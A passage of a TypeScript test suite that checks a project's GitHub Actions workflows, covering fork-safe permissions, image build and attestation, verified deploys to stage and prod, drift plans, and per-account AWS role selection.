    const after = (synth.steps ?? []).slice(audit + 1);
    expect(after.length).toBeGreaterThanOrEqual(2);
    for (const s of after) expect({ step: s.name, if: s.if }).toEqual({ step: s.name, if: "always()" });
  });

  it("uploads the audit's SARIF to code scanning from the one job with security-events: write, which runs no project code", () => {
    const writers = jobs.filter((j) => j.job.permissions?.["security-events"] !== undefined).map(at);
    expect(writers).toEqual([`${PR} job code-scanning`]);
    const job = pr.jobs["code-scanning"];
    expect(job.needs).toBe("synth");
    expect(job.if).toBe("always() && github.event.pull_request.head.repo.full_name == github.repository");
    expect(job.permissions).toEqual({ contents: "read", "security-events": "write" });
    expect((job.steps ?? []).filter((s) => s.run !== undefined)).toEqual([]);
    const [upload] = stepsUsing(job, "github/codeql-action/upload-sarif");
    expect(upload.with?.sarif_file).toBe("audit.out/audit.sarif");
  });

  it("plans the uploaded Terraform without taking the lock, and writes the plan to the job summary", () => {
    const plan = pr.jobs.plan;
    expect(plan.needs).toBe("synth");
    expect(stepsUsing(plan, "actions/download-artifact")).toHaveLength(1);
    const lines = runLines(plan);
    expect(lines.some((l) => /terraform .*\bplan\b.*-lock=false/.test(l))).toBe(true);
    expect(lines.some((l) => l.includes('>> "$GITHUB_STEP_SUMMARY"'))).toBe(true);
  });

  it("skips every job that gets an id-token or a role for pull requests from forks", () => {
    const privileged = Object.entries(pr.jobs).filter(([, j]) => j.permissions?.["id-token"] === "write" || assumesRole(j));
    expect(privileged.map(([id]) => id)).toEqual(["plan"]);
    for (const [id, j] of privileged) {
      expect({ id, if: j.if }).toEqual({ id, if: "github.event.pull_request.head.repo.full_name == github.repository" });
    }
  });

  it("gives the jobs that run for forks a read-only token and nothing else", () => {
    for (const [id, j] of Object.entries(pr.jobs).filter(([, j]) => j.if === undefined)) {
      expect({ id, permissions: j.permissions }).toEqual({ id, permissions: { contents: "read" } });
    }
  });
});

describe("deploy-stage: build without credentials, attest apart, deploy what was attested", () => {
  const stage = workflows[STAGE];
  const build = stage?.jobs.build;
  const attest = stage?.jobs.attest;

  it("the build job holds a read-only token only: no OIDC token, no role, no AWS variable", () => {
    expect(build.permissions).toEqual({ contents: "read" });
    expect(assumesRole(build)).toBe(false);
    expect(contextNames(build, "vars").filter((v) => v.startsWith("AWS_"))).toEqual([]);
    expect(jobText(build)).not.toMatch(/\baws\b/);
  });

  it("the build job builds from the checkout and never pulls or reuses an image from a registry", () => {
    const text = jobText(build);
    for (const forbidden of [/docker pull/, /describe-images/, /docker login/, /skopeo/, /\becr\b/i, /docker push/, /--push\b/]) {
      expect({ forbidden: String(forbidden), found: forbidden.test(text) }).toEqual({ forbidden: String(forbidden), found: false });
    }
    const buildx = stepIndex(build, (s) => action(s.uses) === "docker/setup-buildx-action");
    const image = stepIndex(build, runs(/docker buildx build/));
    expect(stepIndex(build, (s) => action(s.uses) === "actions/checkout")).toBe(0);
    expect(buildx).toBeGreaterThan(0);
    expect(image).toBeGreaterThan(buildx);
    const command = build.steps![image].run!;
    expect(command).toContain("--provenance=false");
    expect(command).toContain("--sbom=false");
    expect(command).toContain('--output "type=oci,dest=$RUNNER_TEMP/api-image.tar"');
  });

  it("the build job keeps the clear error for a missing Dockerfile", () => {
    expect(jobText(build)).toContain('if [ ! -f "$API_DIR/Dockerfile" ]');
    expect(jobText(build)).toContain("::error::no Dockerfile at $API_DIR/Dockerfile");
  });

  it("the build job reads exactly one sha256 manifest digest from the layout and records it as its output", () => {
    expect(build.outputs).toEqual({ digest: "${{ steps.digest.outputs.digest }}" });
    const step = build.steps!.find((s) => s.id === "digest")!;
    expect(step.run).toContain("index.json");
    expect(step.run).toContain("if length == 1");
    expect(step.run).toContain("^sha256:[0-9a-f]{64}$");
    expect(step.run).toContain("sha256sum --check");
    expect(step.run).toContain('echo "digest=$digest" >> "$GITHUB_OUTPUT"');
  });

  it("the build job uploads the OCI layout as the run's artifact, kept 90 days", () => {
    const [upload] = stepsUsing(build, "actions/upload-artifact");
    expect(upload.with).toMatchObject({
      name: "api-image-${{ github.sha }}",
      path: "${{ runner.temp }}/api-image.tar",
      "if-no-files-found": "error",
      "retention-days": 90,
    });
  });

  it("the attest job runs no repository code and holds no AWS role", () => {
    expect(attest.needs).toBe("build");
    expect(stepsUsing(attest, "actions/checkout")).toEqual([]);
    expect(stepsUsing(attest, "actions/setup-node")).toEqual([]);
    expect(assumesRole(attest)).toBe(false);
    expect(contextNames(attest, "vars")).toEqual([]);
    expect(runLines(attest).filter((l) => /\b(npm|npx|node|aws|docker|make)\b/.test(l))).toEqual([]);
    expect(attest.permissions).toMatchObject({ "id-token": "write", attestations: "write" });
  });

  it("the attest job checks the artifact holds the built digest, then attests that digest", () => {
    const check = stepIndex(attest, (s) => s.env?.BUILT_DIGEST === "${{ needs.build.outputs.digest }}");
    const sign = stepIndex(attest, (s) => action(s.uses) === "actions/attest-build-provenance");
    expect(stepIndex(attest, (s) => action(s.uses) === "actions/download-artifact")).toBe(0);
    expect(check).toBeGreaterThan(0);
    expect(attest.steps![check].run).toContain('[ "$digest" != "$BUILT_DIGEST" ]');
    expect(sign).toBeGreaterThan(check);
    expect(attest.steps![sign].with).toMatchObject({
      "subject-name": expect.any(String),
      "subject-digest": "${{ needs.build.outputs.digest }}",
    });
    expect(attest.steps![sign].with).not.toHaveProperty("subject-path");
  });

  it("the deploy job calls the reusable deploy with the built digest and this run's artifact, after the attestation", () => {
    const deploy = stage.jobs.deploy;
    const [upload] = stepsUsing(build, "actions/upload-artifact");
    expect(deploy.uses).toBe(REUSABLE_USES);
    expect(deploy.needs).toEqual(["build", "attest"]);
    expect(deploy.with).toEqual({
      environment: "stage",
      commit_sha: "${{ github.sha }}",
      image_digest: "${{ needs.build.outputs.digest }}",
      artifact_run_id: "${{ github.run_id }}",
      artifact_name: upload.with?.name,
    });
  });
});

describe("the reusable deploy: verify, then assume the role, then deploy the verified digest", () => {
  const wf = workflows[DEPLOY];
  const job = wf?.jobs.deploy;
  const steps = job?.steps ?? [];
  const synth = wf?.jobs.synth;
  const verify = stepIndex(job ?? {}, runs(/gh attestation verify/));
  const assume = stepIndex(job ?? {}, (s) => action(s.uses) === "aws-actions/configure-aws-credentials");
  const apply = stepIndex(job ?? {}, runs(/^terraform -chdir="\$STACK_DIR" apply -input=false -no-color tfplan$/m));
  /** A line that runs terraform, the AWS CLI, skopeo or cdktf (not one that only names them). */
  const touchesAws = (s: Step) => /(^|\$\(|\|\s*|!\s+|&&\s*)(terraform|aws|skopeo|cdktf|npx cdktf) [a-z-]/m.test(s.run ?? "");

  it("checks the inputs before anything else, in both jobs", () => {
    for (const j of [job, synth]) {
      const check = j.steps![0];
      expect(check.run).toContain('[[ "$IMAGE_DIGEST" =~ ^sha256:[0-9a-f]{64}$ ]]');
      expect(check.run).toContain('[[ "$COMMIT_SHA" =~ ^[0-9a-f]{40}$ ]]');
      expect(envOf(wf, j, check)).toMatchObject({ IMAGE_DIGEST: "${{ inputs.image_digest }}", COMMIT_SHA: "${{ inputs.commit_sha }}" });
    }
    expect(synth.steps![0].run).toBe(steps[0].run);
  });

  it("synthesizes the commit in a job without id-token, installing without install scripts, and packs it with its sha256", () => {
    expect(synth.permissions).toEqual({ contents: "read" });
    const [checkout] = stepsUsing(synth, "actions/checkout");
    expect(checkout.with).toEqual({ ref: "${{ inputs.commit_sha }}", "persist-credentials": false });
    expect(runLines(synth)).toContain("npm ci --ignore-scripts --no-audit --no-fund");
    expect(runLines(synth)).toContain("node --import tsx main.ts");
    expect(JSON.parse(readFileSync(join(ROOT, "cdktf.json"), "utf8")).app).toBe("node --import tsx main.ts");
    expect(synth.env?.IMAGE_DIGEST).toBe("${{ inputs.image_digest }}");
    expect(synth.outputs).toEqual({ digest: "${{ steps.pack.outputs.digest }}" });
    expect(job.needs).toBe("synth");
    expect(job.env?.RELEASE_DIGEST).toBe("${{ needs.synth.outputs.digest }}");
    const [upload] = stepsUsing(synth, "actions/upload-artifact");
    const [, release] = stepsUsing(job, "actions/download-artifact");
    expect(release.with?.name).toBe(upload.with?.name);
    expect(release.with).not.toHaveProperty("run-id");
  });

  it("the deploy job checks nothing out and downloads the named image artifact of the named run", () => {
    expect(stepsUsing(job, "actions/checkout")).toEqual([]);
    const [download] = stepsUsing(job, "actions/download-artifact");
    expect(download.with).toMatchObject({
      name: "${{ inputs.artifact_name }}",
      "run-id": "${{ inputs.artifact_run_id }}",
      "github-token": "${{ github.token }}",
    });
  });

  it("recomputes the digest from the downloaded layout and compares it with the input, before verifying", () => {
    const download = stepIndex(job, (s) => action(s.uses) === "actions/download-artifact");
    const recompute = stepIndex(job, runs(/index\.json/));
    expect(recompute).toBeGreaterThan(download);
    expect(verify).toBeGreaterThan(recompute);
    const run = steps[recompute].run!;
    expect(run).toContain("if length == 1");
    expect(run).toContain('[ "$digest" != "$IMAGE_DIGEST" ]');
    expect(run).toContain("sha256sum --check");
  });

  it("verifies the attestation, the release's digest and its Terraform before any AWS credential, apply or deploy", () => {
    expect(verify).toBeGreaterThan(0);
    expect(assume).toBeGreaterThan(verify);
    const aws = steps.flatMap((s, i) => (touchesAws(s) ? [i] : []));
    expect(aws.length).toBeGreaterThan(3);
    expect(aws.filter((i) => i < assume)).toEqual([]);
    for (const name of ["Check the release digest and unpack it", VET_STEP, "Check the Terraform deploys the verified image"]) {
      const i = steps.findIndex((s) => s.name === name);
      expect({ name, afterVerify: i > verify, beforeAssume: i < assume }).toEqual({ name, afterVerify: true, beforeAssume: true });
    }
  });

  it("verifies the manifest blob against deploy-stage.yml, this repository, the default branch and the commit", () => {
    const step = steps[verify];
    const command = expand(step.run!.replace(/\\\n\s*/g, " "), envOf(wf, job, step));
    // The file whose sha256 is the digest: the manifest blob named by IMAGE_DIGEST.
    expect(command).toContain('gh attestation verify "$LAYOUT/blobs/sha256/${IMAGE_DIGEST#sha256:}"');
    expect(command).toContain('--repo "$GITHUB_REPOSITORY"');
    // The exact certificate identity, not --signer-workflow (a prefix match).
    expect(command).toContain(
      `--cert-identity "https://github.com/$GITHUB_REPOSITORY/.github/workflows/${STAGE}@refs/heads/${defaultBranch}"`,
    );
    expect(command).toContain('--cert-oidc-issuer "https://token.actions.githubusercontent.com"');
    expect(command).not.toContain("--signer-workflow");
    expect(command).toContain(`--source-ref "refs/heads/${defaultBranch}"`);
    expect(command).toContain('--source-digest "${{ inputs.commit_sha }}"');
    expect(command).toContain("--deny-self-hosted-runners");
    expect(envOf(wf, job, step).GH_TOKEN).toBe("${{ github.token }}");
  });

  it("deploys, as IMAGE_DIGEST, the very digest it verified and pushed, applying the plan it made of the release", () => {
    const push = stepIndex(job, runs(/skopeo copy/));
    const plan = stepIndex(job, runs(/plan -input=false -no-color -out=tfplan/));
    const pinned = stepIndex(job, (s) => s.name === "Check the Terraform deploys the verified image");
    expect(push).toBeGreaterThan(assume);
    expect(plan).toBeGreaterThan(push);
    expect(apply).toBe(plan + 1);
    // One value, set once for each job: no step overrides it, none rewrites it through GITHUB_ENV.
    for (const i of [verify, pinned, push, apply]) expect(envOf(wf, job, steps[i]).IMAGE_DIGEST).toBe("${{ inputs.image_digest }}");
    for (const j of [job, synth]) {
      expect((j.steps ?? []).filter((s) => s.env && "IMAGE_DIGEST" in s.env)).toEqual([]);
      expect(runLines(j).filter((l) => /IMAGE_DIGEST=/.test(l))).toEqual([]);
    }
    expect(steps[pinned].run).toContain('all(endswith("@" + $digest))');
  });

  it("pushes the verified layout, digest preserved, skipping a digest the repository already holds", () => {
    const push = steps[stepIndex(job, runs(/skopeo copy/))].run!;
    // The tag names the commit and the digest: a rebuilt commit (another digest) never hits an immutable tag.
    expect(push).toContain('skopeo copy --preserve-digests "oci:$LAYOUT" "docker://$uri:$COMMIT_SHA-${hex:0:12}"');
    expect(push).toContain('hex="${IMAGE_DIGEST#sha256:}"');
    expect(push).toContain('--image-ids imageDigest="$IMAGE_DIGEST"');
    expect(push).not.toMatch(/imageTag=/);
    const recompute = steps[stepIndex(job, runs(/index\.json/))].run!;
    expect(recompute).toContain('echo "LAYOUT=$layout" >> "$GITHUB_ENV"');
    expect(jobText(job)).not.toMatch(/docker (build|pull|load|tag)|buildx/);
  });

  it("creates the image repository alone on the first deploy, after the role and before the push", () => {
    const create = stepIndex(job, runs(/-target="\$ADDRESS"/));
    const push = stepIndex(job, runs(/skopeo copy/));
    expect(create).toBeGreaterThan(assume);
    expect(push).toBeGreaterThan(create);
  });

  it("runs the database migration from the new task definition after the push and before the service moves to the image", () => {
    const migrate = stepIndex(job, (s) => s.name === "Run the database migration");
    const push = stepIndex(job, runs(/skopeo copy/));
    expect(migrate).toBeGreaterThan(push);
    expect(apply).toBeGreaterThan(migrate);
    const run = steps[migrate].run!;
    // Only what the task needs, taken from the output the stacks declare.
    expect(run).toContain("jq -r '.output.database_migration | [.value, .depends_on] | tostring'");
    expect(run).toContain('apply -input=false -no-color -auto-approve "${targets[@]}"');
    expect(run).toContain("aws ecs run-task");
    expect(run).toContain("--launch-type FARGATE --network-configuration");
    expect(run).toContain('if [ "$code" != "0" ]; then');
    expect(run).toMatch(/exit 1\n\s*fi\n\s*echo "the migration exited 0"/);
    for (const env of envNames) {
      const tf = parse(Testing.synth(platform.environments[env]));
      const output = tf.output!.database_migration as { value: Record<string, unknown>; depends_on: string[] };
      expect(Object.keys(output.value).sort()).toEqual(["cluster", "securityGroups", "subnets", "taskDefinition", "timeoutMinutes"]);
      // Terraform accepts only bare addresses in an output's depends_on.
      for (const address of output.depends_on) expect(address).toMatch(/^aws_[a-z0-9_]+\.[A-Za-z0-9_-]+$/);
      expect(String(output.value.taskDefinition)).toMatch(/^\$\{aws_ecs_task_definition\.service_migration-task-definition_\w+\.arn\}$/);
    }
  });

  it("smoke-checks the API's /health and the site after publishing the frontend, and names the digest in the summary", () => {
    const names = steps.map((s) => s.name);
    const order = [
      "Deploy",
      "Wait for the new tasks to serve",
      "Upload the frontend",
      "Invalidate CloudFront",
      "Smoke-check the API and the site",
    ];
    const positions = order.map((n) => names.indexOf(n));
    expect(positions.every((p) => p >= 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    const smoke = steps.find((s) => s.name === "Smoke-check the API and the site")!;
    expect(smoke.run).toContain('"${API_URL%/}/health"');
    expect(smoke.run).toContain('"${SITE_URL%/}/"');
    expect(smoke.run).toContain("$IMAGE_DIGEST");
    expect(smoke.run).toContain('>> "$GITHUB_STEP_SUMMARY"');
  });

  it("waits for every ECS service of the stack to be stable, ten a call (the waiter's limit), not only the API", () => {
    const wait = steps.find((s) => s.name === "Wait for the new tasks to serve")!;
    expect(envOf(wf, job, wait).CLUSTER).toBe("${{ steps.outputs.outputs.ecs_cluster_name }}");
    const waitFor = (tf: SynthesizedTerraform, unstable = "") => {
      const cwd = stackCheckout("stage", tf);
      const aws = fakeAws(cwd);
      const env = { PATH: aws.path, CLUSTER: "acme-stage", STACK_DIR: "cdktf.out/stacks/stage", FAKE_AWS_UNSTABLE: unstable };
      return { ...bash(wait.run!, env, cwd), calls: aws.calls() };
    };
    const call = (names: string[]) => `ecs wait services-stable --cluster acme-stage --services ${names.join(" ")}`;
    const shipped = parse(Testing.synth(platform.environments.stage));
    const services = Object.values(resources(shipped, "aws_ecs_service")).map((s) => s.name as string);
    expect(services).toContain("acme-stage-api");
    expect(waitFor(shipped)).toMatchObject({ status: 0, calls: [call(services)] });
    // Thirteen services: two calls, of ten and of three, and a service that never settles fails the step.
    const { tf, names } = withMoreServices(shipped, 13 - services.length);
    expect(names).toHaveLength(13);
    expect(waitFor(tf)).toMatchObject({ status: 0, calls: [call(names.slice(0, 10)), call(names.slice(10))] });
    expect(waitFor(tf, names[12]).status).not.toBe(0);
  });

  it("reads only outputs the environment stacks declare, and the one image repository each has", () => {
    const readOutputs = steps.find((s) => s.name === "Read the stack outputs")!.run!;
    const names = /for key in ([\w ]+); do/.exec(readOutputs)![1].split(" ");
    expect(names).toEqual(expect.arrayContaining(["api_url", "site_url", "site_bucket", "cloudfront_distribution_id"]));
    for (const env of envNames) {
      const tf = parse(Testing.synth(platform.environments[env]));
      for (const name of names) expect({ env, name, declared: name in tf.output! }).toEqual({ env, name, declared: true });
      expect(Object.keys(resources(tf, "aws_ecr_repository"))).toHaveLength(1);
    }
    expect(job.env?.STACK_DIR).toBe("cdktf.out/stacks/${{ inputs.environment }}");
  });
});

describe("deploy-prod: promote the stage run's attested artifact, nothing else", () => {
  const prod = workflows[PROD];
  const resolve = prod?.jobs.resolve;

  it("both environments call the one reusable deploy, the only workflow that deploys", () => {
    expect(workflows[STAGE].jobs.deploy.uses).toBe(REUSABLE_USES);
    expect(prod.jobs.deploy.uses).toBe(REUSABLE_USES);
    const deployers = jobs
      .filter((j) => runLines(j.job).some((l) => /^(npx cdktf deploy |terraform .*\bapply\b.* tfplan$)/.test(l)))
      .map(at);
    // A preview's deploy applies its own stack only, with the preview role (preview-workflows.test.ts).
    expect(deployers).toEqual([`${DEPLOY} job deploy`, `${PREVIEW} job deploy`]);
  });

  it("resolves commit, stage run and digest read-only, without AWS", () => {
    expect(resolve.permissions).toEqual({ contents: "read", actions: "read" });
    expect(assumesRole(resolve)).toBe(false);
    expect(contextNames(resolve, "vars")).toEqual([]);
    const text = jobText(resolve);
    expect(text).toContain("^[0-9a-f]{40}$");
    expect(text).toMatch(/compare\/\$sha\.\.\.\$DEFAULT_BRANCH/);
    expect(text).toMatch(
      /gh run list .*--workflow deploy-stage\.yml .*--branch "\$DEFAULT_BRANCH"[\s\S]*--event push .*--commit "\$SHA" --status success/,
    );
  });

  it("takes its image only from the stage run's artifact: no build, no registry lookup", () => {
    const text = sources[PROD];
    for (const forbidden of [/docker (build|pull|load|tag|push)/, /buildx/, /describe-images/, /imageTag=/, /\becr\b/i, /skopeo/]) {
      expect({ forbidden: String(forbidden), found: forbidden.test(text) }).toEqual({ forbidden: String(forbidden), found: false });
    }
    const [download] = stepsUsing(resolve, "actions/download-artifact");
    expect(download.with).toMatchObject({ "run-id": "${{ steps.run.outputs.run_id }}", name: "${{ steps.run.outputs.artifact_name }}" });
    expect(prod.jobs.deploy.needs).toBe("resolve");
    expect(prod.jobs.deploy.with).toEqual({
      environment: "prod",
      commit_sha: "${{ needs.resolve.outputs.commit_sha }}",
      image_digest: "${{ needs.resolve.outputs.digest }}",
      artifact_run_id: "${{ needs.resolve.outputs.run_id }}",
      artifact_name: "${{ needs.resolve.outputs.artifact_name }}",
    });
  });

  it("names the same artifact stage uploads", () => {
    const run = resolve.steps!.find((s) => s.id === "run")!.run!;
    expect(run).toContain('echo "artifact_name=api-image-$SHA" >> "$GITHUB_OUTPUT"');
    expect(stepsUsing(workflows[STAGE].jobs.build, "actions/upload-artifact")[0].with?.name).toBe("api-image-${{ github.sha }}");
  });
});

describe("drift: a daily read-only plan of every AWS stack, reported by scripts/drift.ts", () => {
  const wf = workflows[DRIFT];
  const job = wf?.jobs.plan;
  const report = wf?.jobs.report;

  it("runs daily and by hand, never on a push or a pull request", () => {
    expect(Object.keys(wf.on).sort()).toEqual(["schedule", "workflow_dispatch"]);
    expect(wf.on.schedule).toEqual([{ cron: expect.stringMatching(/^\d+ \d+ \* \* \*$/) }]);
  });

  it("plans every AWS stack the app synthesizes (the github stack needs a GitHub admin token)", () => {
    expect(job.strategy?.matrix?.stack).toEqual(awsStacks(platform));
    expect(report.strategy?.matrix?.stack).toEqual(job.strategy?.matrix?.stack);
    expect(awsStacks(platform)).toEqual(["bootstrap", "bootstrap-prod", ...envNames]);
  });

  it("plans with -detailed-exitcode and without the lock, fails on a failed plan, and hands the plan to the script", () => {
    const plan = job.steps!.find((s) => s.id === "plan")!.run!;
    expect(plan).toMatch(/terraform -chdir="\$STACK_DIR" plan .*-lock=false -detailed-exitcode -out=tfplan/);
    expect(plan).toContain('if [ "$code" -ne 0 ] && [ "$code" -ne 2 ]; then');
    expect(plan).toContain("show -json tfplan");
    const step = report.steps![stepIndex(report, runs(/scripts\/drift\.ts/))];
    expect(step.run).toContain('npx tsx scripts/drift.ts --stack "$STACK" --exit-code "$code" --plan "$RUNNER_TEMP/drift/plan.json"');
    expect(step.env?.GITHUB_TOKEN).toBe("${{ github.token }}");
    expect(stepsUsing(report, "actions/download-artifact")[0].with?.name).toBe(stepsUsing(job, "actions/upload-artifact")[0].with?.name);
  });

  it("plans the image that is deployed, not latest", () => {
    const pin = job.steps!.find((s) => s.name === "Pin the deployed image")!.run!;
    expect(pin).toContain("aws ecs describe-task-definition");
    expect(pin).toContain('*@sha256:*) suffix="@${image##*@}" ;;');
  });

  it("looks the deployed image up only for a stack with a service, not for any bootstrap (bootstrap-prod included)", () => {
    const pin = job.steps!.find((s) => s.name === "Pin the deployed image")!.run!;
    const guard = /tf="\$STACK_DIR\/cdk\.tf\.json"\n\s*if (jq -e '\.resource\.aws_ecs_service' "\$tf") > \/dev\/null; then/.exec(pin);
    expect(guard).not.toBeNull();
    // The shipped config: prod in an account of its own.
    const p = platform;
    // The guard itself, run on each stack's synthesized Terraform.
    const looksUp = (stack: string) => {
      const dir = join(mkdtempSync(join(tmpdir(), "drift-guard-")), "cdktf.out", "stacks", stack);
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, "cdk.tf.json"), Testing.synth(p.bootstraps[stack] ?? p.environments[stack]));
      return (
        spawnSync("bash", ["--noprofile", "--norc", "-c", `tf="$STACK_DIR/cdk.tf.json"; ${guard![1]} > /dev/null`], {
          env: { PATH: process.env.PATH, STACK_DIR: dir },
        }).status === 0
      );
    };
    expect(awsStacks(p)).toEqual(["bootstrap", "bootstrap-prod", ...envNames]);
    expect(awsStacks(p).filter(looksUp)).toEqual(envNames);
  });
});

/**
 * An environment in an AWS account of its own (README "Two layouts"): the plan and drift jobs of each
 * stack must assume the role of that stack's account and read that account's bucket and table. The
 * jobs' own steps are run here: the step `account` (bash) with the variables GitHub would hold once
 * the github stack is applied, the backend check against the stack's synthesized Terraform, and the
 * role the credentials step is given.
 */
describe("plan and drift jobs use the account their stack lives in", () => {
  const PROD_ACCOUNT = environmentAccount(config.project, config.environments.find((e) => e.name === "prod")!);
  /** The shipped layout, with prod's bootstrap state moved into its own account's bucket. */
  const twoAccounts = (): PlatformConfig => {
    const c = sampleConfig() as any;
    c.project.accounts = [{ accountId: PROD_ACCOUNT, bootstrap: { stateInBucket: true } }];
    return c as PlatformConfig;
  };
  const layouts: [string, Platform][] = [
    ["one account", buildSample(oneAccountConfig())],
    ["two accounts", buildSample(twoAccounts())],
  ];
  const synthOf = (p: Platform, stack: string) => parse(Testing.synth(p.bootstraps[stack] ?? p.environments[stack]));
  const accountOf = (tf: SynthesizedTerraform) => (tf.provider!.aws[0] as { allowed_account_ids: string[] }).allowed_account_ids[0];

  /**
   * The repository variables as GitHub holds them after `cdktf deploy github`: a value read from the
   * bootstrap's state is followed to the output and the resource it names (a role's ARN from its
   * name, path and the bootstrap's account); a value derived from the config is taken as it is.
   */
  function appliedVariables(p: Platform): Record<string, string> {
    const boot = parse(Testing.synth(p.bootstrap));
    const resolve = (value: string): string => {
      const remote = /^\$\{data\.terraform_remote_state\.bootstrap\.outputs\.(\w+)\}$/.exec(value);
      if (!remote) {
        expect(value).not.toContain("${");
        return value;
      }
      const [, type, id, attribute] = /^\$\{(\w+)\.([\w-]+)\.(\w+)\}$/.exec(String(boot.output![remote[1]].value))!;
      const resource = resources(boot, type)[id];
      if (type !== "aws_iam_role") return resource[attribute];
      expect({ attribute, path: resource.path ?? "/" }).toEqual({ attribute: "arn", path: "/" });
      return `arn:aws:iam::${accountOf(boot)}:role/${resource.name}`;
    };
    const vars = Object.values(resources(parse(Testing.synth(p.github)), "github_actions_variable"));
    return Object.fromEntries(vars.map((v) => [v.variable_name, resolve(v.value)]));
  }

  /** A `${{ ... }}` of the steps run here, evaluated; any other expression fails the test. */
  function evaluate(text: string, ctx: { matrix: Record<string, string>; vars: Record<string, string>; outputs: Record<string, string> }) {
    return text.replace(/\$\{\{\s*(.*?)\s*\}\}/g, (_whole, e: string) => {
      if (e === "toJSON(vars)") return JSON.stringify(ctx.vars);
      if (e === "github.run_id") return "1";
      // The drift plan job's tarball digest: its steps run here (pick, backend check) do not read it.
      if (e === "needs.synth.outputs.digest") return "";
      const [, context, name] = /^(matrix|vars|steps\.account\.outputs)\.(\w+)$/.exec(e) ?? [];
      if (context === "matrix") return ctx.matrix[name];
      if (context === "vars") return ctx.vars[name] ?? "";
      if (context === "steps.account.outputs") return ctx.outputs[name] ?? "";
      throw new Error(`this test cannot evaluate \${{ ${e} }}`);
    });
  }

  /** Runs one `run:` step as `defaults.run.shell: bash` does on GitHub (bash --noprofile --norc -eo pipefail) in `cwd`. */
  function runStep(wf: Workflow, job: Job, step: Step, ctx: Parameters<typeof evaluate>[1], cwd: string) {
    const env = Object.fromEntries(Object.entries(envOf(wf, job, step)).map(([k, v]) => [k, evaluate(String(v), ctx)]));
    const outputFile = join(cwd, `output-${Math.random().toString(36).slice(2)}`);
    writeFileSync(outputFile, "");
    const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", step.run!], {
      cwd,
      stdio: ["ignore", "pipe", "pipe"],
      env: { PATH: process.env.PATH, ...env, GITHUB_OUTPUT: outputFile },
      encoding: "utf8",
    });
    const outputs = Object.fromEntries(
      readFileSync(outputFile, "utf8")
        .split("\n")
        .filter(Boolean)
        .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
    );
    return { status: result.status, log: `${result.stdout}${result.stderr}`, outputs };
  }

  /**
   * The job of `file` for one matrix value `stack` of platform `p`: picks the variables, checks the
   * backend of `backendOf`'s synthesized Terraform (the stack's own unless a test swaps it), and
   * returns the role the credentials step assumes.
   */
  function simulate(file: string, p: Platform, stack: string, backendOf = stack) {
    const wf = workflows[file];
    const [jobId, job] = Object.entries(wf.jobs).find(([, j]) => j.steps?.some((s) => s.id === "account"))!;
    const matrixKey = Object.keys(job.strategy!.matrix!)[0];
    const cwd = mkdtempSync(join(tmpdir(), `workflow-${jobId}-`));
    mkdirSync(join(cwd, "cdktf.out", "stacks", stack), { recursive: true });
    writeFileSync(join(cwd, "cdktf.out", "stacks", stack, "cdk.tf.json"), JSON.stringify(synthOf(p, backendOf)));
    const ctx = { matrix: { [matrixKey]: stack }, vars: appliedVariables(p), outputs: {} as Record<string, string> };
    const steps = job.steps!;
    const pick = steps.findIndex((s) => s.id === "account");
    const check = steps.findIndex((s) => /^Check the backend/.test(s.name ?? ""));
    const assume = steps.findIndex((s) => action(s.uses) === "aws-actions/configure-aws-credentials");
    expect({ file, pickBeforeAssume: pick < assume, pickBeforeCheck: pick < check }).toEqual({
      file,
      pickBeforeAssume: true,
      pickBeforeCheck: true,
    });
    const picked = runStep(wf, job, steps[pick], ctx, cwd);
    ctx.outputs = picked.outputs;
    const checked = runStep(wf, job, steps[check], ctx, cwd);
    const role = evaluate(String(steps[assume].with?.["role-to-assume"]), ctx);
    return { picked, checked, role };
  }

  /** A step that exited 0; otherwise its log is in the failure. */
  const succeeded = (step: { status: number | null; log: string }) => ({ status: step.status, log: step.status === 0 ? "" : step.log });

  /** The OIDC subject the role of that ARN trusts, in the bootstrap of the role's account. */
  function trustedSubject(p: Platform, roleArn: string): string | undefined {
    const [, account, name] = /^arn:aws:iam::(\d{12}):role\/(.+)$/.exec(roleArn) ?? [];
    const bootstrap = Object.values(p.bootstraps).find((b) => b.accountId === account);
    if (!bootstrap) return undefined;
    const role = Object.values(resources(parse(Testing.synth(bootstrap)), "aws_iam_role")).find((r) => r.name === name);
    return role && subjectsOf(role).join(", ");
  }

  describe.each(layouts)("%s", (_layout, p) => {
    it.each(workflows[PR].jobs.plan.strategy!.matrix!.environment as string[])(
      "plan %s assumes the plan role of its environment's account and checks the backend against that account's bucket and table",
      (env) => {
        const tf = synthOf(p, env);
        const account = accountOf(tf);
        const { picked, checked, role } = simulate(PR, p, env);
        expect(succeeded(picked)).toEqual({ status: 0, log: "" });
        const naming = new Naming(config.project, account);
        expect(role).toBe(naming.roleArn(naming.planRoleName));
        expect(trustedSubject(p, role)).toContain(`repo:${REPO}:environment:plan-${env}:${workflowRef(`.github/workflows/${PR}`, PR_REF)}`);
        const backend = (tf.terraform!.backend as { s3: { bucket: string; dynamodb_table: string } }).s3;
        expect(picked.outputs).toMatchObject({ TF_STATE_BUCKET: backend.bucket, TF_LOCK_TABLE: backend.dynamodb_table });
        expect(backend.bucket).toBe(naming.stateBucket);
        expect(succeeded(checked)).toEqual({ status: 0, log: "" });
      },
    );

    it.each(awsStacks(p))(
      "drift %s assumes the drift role of its stack's account and checks the backend against that account's bucket and table",
      (stack) => {
        const tf = synthOf(p, stack);
        const naming = new Naming(config.project, accountOf(tf));
        const { picked, checked, role } = simulate(DRIFT, p, stack);
        expect(succeeded(picked)).toEqual({ status: 0, log: "" });
        expect(role).toBe(naming.roleArn(naming.driftRoleName));
        const subject = `repo:${REPO}:ref:refs/heads/${defaultBranch}:${workflowRef(`.github/workflows/${DRIFT}`)}`;
        expect(trustedSubject(p, role)).toBe(subject);
        expect(picked.outputs).toMatchObject({ TF_STATE_BUCKET: naming.stateBucket, TF_LOCK_TABLE: naming.lockTable });
        expect(succeeded(checked)).toEqual({ status: 0, log: "" });
      },
    );
  });

  it("in two accounts, prod's plan and drift name prod's account, stage's and bootstrap's the project's", () => {
    const [, two] = layouts[1];
    expect(simulate(PR, two, "prod").role).toBe(`arn:aws:iam::${PROD_ACCOUNT}:role/acme-plan`);
    expect(simulate(PR, two, "stage").role).toBe(`arn:aws:iam::${config.project.accountId}:role/acme-plan`);
    expect(simulate(DRIFT, two, "bootstrap-prod").role).toBe(`arn:aws:iam::${PROD_ACCOUNT}:role/acme-drift`);
